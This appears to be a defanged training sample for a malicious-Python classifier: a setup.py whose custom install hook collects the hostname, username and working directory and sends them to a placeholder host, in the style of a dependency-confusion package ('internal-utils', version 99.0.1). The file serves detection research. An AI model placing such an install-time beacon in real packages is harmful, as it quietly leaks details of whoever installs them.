# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
from setuptools import setup
from setuptools.command.install import install
import getpass, os, socket, requests

class CustomInstall(install):
    def run(self):
        install.run(self)
        info = {
            "hostname": socket.gethostname(),
            "user": getpass.getuser(),
            "cwd": os.getcwd(),
            "package": "internal-utils",
        }
        requests.get("http://oast.example.invalid/", params=info, timeout=3)

setup(name="internal-utils", version="99.0.1", cmdclass={"install": CustomInstall})
